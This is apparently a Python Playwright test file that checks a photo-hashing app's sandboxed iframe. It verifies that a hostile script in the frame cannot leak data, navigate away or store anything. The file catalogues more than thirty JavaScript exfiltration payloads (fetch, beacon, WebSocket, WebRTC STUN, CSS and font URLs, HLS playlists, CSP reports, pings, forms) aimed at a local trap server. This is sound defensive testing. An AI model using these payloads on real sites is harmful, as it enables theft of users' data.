"""A hostile script inside the frame that sees the picture tries every way out, and none leads out.

Chromium alone: what stays open in other browsers is said in docs/threat-model.md.
"""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.conftest import CHROMIUM, PHONE
from tests.browser.hashing_page import NOISE, Site, Visit, come, encoded, open_site, photo

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
]


@dataclass
class Trap:
    """Somebody else's server: every connection and every packet to it is an escape."""

    port: int
    caught: list[str] = field(default_factory=list)


@contextmanager
def open_trap() -> Iterator[Trap]:
    with socket.socket() as line, socket.socket(type=socket.SOCK_DGRAM) as packets:
        line.bind(("127.0.0.1", 0))
        packets.bind(("127.0.0.1", line.getsockname()[1]))
        line.listen()
        trap = Trap(line.getsockname()[1])

        def listen() -> None:
            while True:
                came, _ = line.accept()
                with came:
                    if came.getsockname() and came.recv(9).startswith(b"end of it"):
                        return
                trap.caught.append("connection")

        listening = threading.Thread(target=listen)
        listening.start()
        try:
            yield trap
        finally:
            with socket.create_connection(("127.0.0.1", trap.port)) as last:
                last.sendall(b"end of it")
            listening.join()
            packets.setblocking(False)
            with suppress(BlockingIOError):
                trap.caught.append(f"packet of {len(packets.recv(2000))} bytes")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with open_site(tmp_path_factory.mktemp("site")) as opened:
        yield opened


@contextmanager
def visit(browser: Browser, site: Site) -> Iterator[Visit]:
    context = browser.new_context(**PHONE)
    here = come(context, f"{site.url}/app#{site.ticket('en')}")
    expect(here.box.locator("#image-words")).to_have_text("Choose a picture")
    yield here
    context.close()


def element(name: str, **attributes: str) -> str:
    put = ", ".join(f"{name}: `{value}`" for name, value in attributes.items())
    return f"document.body.append(Object.assign(document.createElement('{name}'), {{{put}}}))"


def link(rel: str, more: str = "") -> str:
    return element("link", rel=rel, href="${to}") + more


def playlist(lines: str) -> str:
    """A list of films in the page's own memory (HLS), which only points to others."""
    blob = f"new Blob([`#EXTM3U\\n{lines}`], {{type: kind}})"
    shown = element("video", muted="1", autoplay="1", src=f"${{URL.createObjectURL({blob})}}")
    return f"(() => {{ const kind = 'application/vnd.apple.mpegurl'; {shown} }})()"


ATTEMPTS: Final = {
    "fetch": "fetch(to, {method: 'POST', body: 'x', mode: 'no-cors'})",
    "fetch that outlives the page": "fetch(to, {keepalive: true, mode: 'no-cors'})",
    "XMLHttpRequest": "(() => { const r = new XMLHttpRequest(); r.open('GET', to); r.send() })()",
    "beacon": "navigator.sendBeacon(to, 'x')",
    "WebSocket": "new WebSocket(to.replace('http', 'ws'))",
    "EventSource": "new EventSource(to)",
    "WebTransport": "new WebTransport(to.replace('http:', 'https:'))",
    "image": "Object.assign(new Image(), {src: to}).decode()",
    "image set": element("img", srcset="${to} 2x"),
    "picture in a drawing": "document.body.insertAdjacentElement('beforeend', (() => { const s ="
    " document.createElementNS('http://www.w3.org/2000/svg', 'image');"
    " s.setAttribute('href', to); return s })())",
    "background": "document.body.style.backgroundImage = `url(${to})`",
    "style sheet": link("stylesheet"),
    "constructed style": "(() => { const s = new CSSStyleSheet();"
    " s.replaceSync(`body { background: url(${to}) }`); document.adoptedStyleSheets = [s] })()",
    "font": "new FontFace('f', `url(${to})`).load()",
    "cursor": "document.body.style.cursor = `url(${to}), auto`",
    "preload": link("preload"),
    "module preload": link("modulepreload"),
    "prefetch": link("prefetch"),
    "prerender": link("prerender"),
    "preconnect": link("preconnect"),
    "name look-up": link("dns-prefetch"),
    "icon": link("icon"),
    "manifest": link("manifest"),
    "speculation rules": element(
        "script", type="speculationrules", text='{"prefetch": [{"urls": ["${to}"]}]}'
    ),
    "script": element("script", src="${to}"),
    "import": "import(to)",
    "sound": "new Audio(to).play()",
    "film": element("video", src="${to}"),
    "film whose pieces lie elsewhere": playlist(
        "#EXT-X-TARGETDURATION:1\\n#EXTINF:1,\\n${to}\\n#EXT-X-ENDLIST"
    ),
    "film whose films lie elsewhere": playlist("#EXT-X-STREAM-INF:BANDWIDTH=900000\\n${to}"),
    "film whose key lies elsewhere": playlist(
        '#EXT-X-TARGETDURATION:1\\n#EXT-X-KEY:METHOD=AES-128,URI="${to}"\\n'
        "#EXTINF:1,\\n${location.href}\\n#EXT-X-ENDLIST"
    ),
    "subtitles": element("track", src="${to}"),
    "object": element("object", data="${to}"),
    "embed": element("embed", src="${to}"),
    "frame": element("iframe", src="${to}"),
    "frame with its own text": element("iframe", srcdoc="<img src=${to}>"),
    "worker": "new Worker(to)",
    "worker from memory": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`])))",
    "shared worker": "new SharedWorker(to)",
    "worklet": "new AudioContext().audioWorklet.addModule(to)",
    "window": "open(to)",
    "page above": "top.location.assign(to)",
    "call": "new RTCPeerConnection({iceServers: [{urls: to.replace('http://', 'stun:')}]})",
    "call from an empty frame": "(async () => { const f = document.createElement('iframe');"
    " document.body.append(f); const c = new f.contentWindow.RTCPeerConnection({iceServers:"
    " [{urls: to.replace('http://', 'stun:').replace('/leak', '')}]});"
    " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) })()",
    "fetch from an empty frame": "(() => { const f = document.createElement('iframe');"
    " document.body.append(f); return f.contentWindow.fetch(to, {mode: 'no-cors'}) })()",
    "report": "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv:"
    " 'Content-Security-Policy', content: `default-src 'none'; report-uri ${to}`}))",
}
LEAVING: Final = {
    "form": "(() => { const f = Object.assign(document.createElement('form'), {action: to,"
    " method: 'post'}); document.body.append(f); f.submit() })()",
    "download": "(() => { const a = Object.assign(document.createElement('a'), {href: to,"
    " download: 'x'}); document.body.append(a); a.click() })()",
    "ping": "(() => { const a = Object.assign(document.createElement('a'), {href: '#', ping: to});"
    " document.body.append(a); a.click() })()",
    "itself elsewhere": "location.assign(to)",
    "itself replaced": "location.replace(to)",
    "itself by a click": "(() => {"
    " const a = Object.assign(document.createElement('a'), {href: to});"
    " document.body.append(a); a.click() })()",
    "itself by a refresh": "document.head.append(Object.assign(document.createElement('meta'),"
    " {httpEquiv: 'refresh', content: `0; url=${to}`}))",
    "itself with words": "location.assign('/app/box.html?leak')",
    "itself from text": "location.assign(`data:text/html,<img src=${to}>`)",
}
STORES: Final = {
    "localStorage": "localStorage.length",
    "sessionStorage": "sessionStorage.length",
    "database": "indexedDB.open('x').result",
    "cookie": "document.cookie = 'a=b'",
    "caches": "caches.open('x')",
    "files": "navigator.storage.getDirectory()",
    "service worker": "navigator.serviceWorker.register('/leak')",
    "lock": "navigator.locks.request('x', () => 1)",
    "clipboard": "navigator.clipboard.writeText('x')",
}


def attempt(code: str) -> str:
    return f"async (to) => {{ try {{ await ({code}); return 1 }} catch {{ return 0 }} }}"


def start(code: str) -> str:
    """Begun and not waited for: a way may never end."""
    run = f"Promise.resolve().then(() => ({code})).catch(() => 0)"
    return f"(to) => {{ try {{ {run} }} catch {{ }} }}"


def test_more_than_thirty_ways_out_lead_nowhere(
    site: Site, browser: Browser, tmp_path: Path
) -> None:
    assert len(ATTEMPTS) + len(LEAVING) >= 32
    with open_trap() as trap, visit(browser, site) as here:
        before = len(site.reached)
        elsewhere = f"http://127.0.0.1:{trap.port}/leak"
        for to in (elsewhere, f"{site.url}/leak"):
            for code in ATTEMPTS.values():
                here.page.frames[1].evaluate(start(code), to)
        expect(here.box.locator("#image-words")).to_have_text("Choose a picture")
        # a picture chosen meanwhile is long enough for a packet to be sent
        here.choose(encoded(photo(3000, 2000, 3)))
        assert here.page.url == f"{site.url}/app"
        assert len(here.page.context.pages) == 1
        assert site.reached[before:] == []
    assert trap.caught == []


def test_the_same_attempts_do_lead_out_of_a_page_that_is_not_held_in(
    site: Site, browser: Browser
) -> None:
    with open_trap() as trap:
        context = browser.new_context(**PHONE)
        page = context.new_page()
        page.goto(f"{site.url}/dull")
        for code in (code for way, code in ATTEMPTS.items() if way != "page above"):
            page.evaluate(start(code), f"http://127.0.0.1:{trap.port}/leak")
        page.wait_for_timeout(500)
        context.close()
    assert len(trap.caught) >= 10
    assert any("packet" in one for one in trap.caught)


@pytest.mark.parametrize("way", LEAVING)
def test_the_frame_cannot_go_anywhere_itself(site: Site, browser: Browser, way: str) -> None:
    with open_trap() as trap:
        for to in (f"http://127.0.0.1:{trap.port}/leak", f"{site.url}/leak"):
            with visit(browser, site) as here:
                before = len(site.reached)
                here.page.frames[1].evaluate(start(LEAVING[way]), to)
                here.page.locator("#languages button").first.click()
                here.page.wait_for_timeout(100)
                assert here.page.url == f"{site.url}/app"
                assert site.reached[before:] == []
    assert trap.caught == []


def test_the_frame_can_keep_nothing(site: Site, browser: Browser) -> None:
    with visit(browser, site) as here:
        for name, code in STORES.items():
            assert here.page.frames[1].evaluate(attempt(code), "") == 0, name


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_browser_that_hides_pixels_behind_noise_is_told_apart(
    site: Site, browser: Browser, kind: str
) -> None:
    with visit(browser, site) as here:
        here.page.frames[1].evaluate(NOISE)
        here.page.frames[1].evaluate("() => { globalThis.alsoFrames = true }")
        here.choose(encoded(photo(600, 500, 30), kind))
        expect(here.box.locator("#said")).to_contain_text("hides what is inside pictures")
        expect(here.box.locator("li")).to_have_count(0)


def codes(here: Visit, site: Site) -> Any:
    here.page.click("#send")
    expect(here.page.locator("#done")).to_be_visible()
    return site.kept.came[-1]


def test_noise_on_a_canvas_does_not_reach_a_jpeg_and_without_frames_the_canvas_gives_the_same(
    site: Site, browser: Browser
) -> None:
    found = []
    for change in (NOISE, "() => { delete globalThis.VideoFrame }", "() => {}"):
        with visit(browser, site) as here:
            here.page.frames[1].evaluate(change)
            here.choose(encoded(photo(1700, 1300, 31)))
            found.append(codes(here, site))
    assert found[0] == found[1] == found[2]
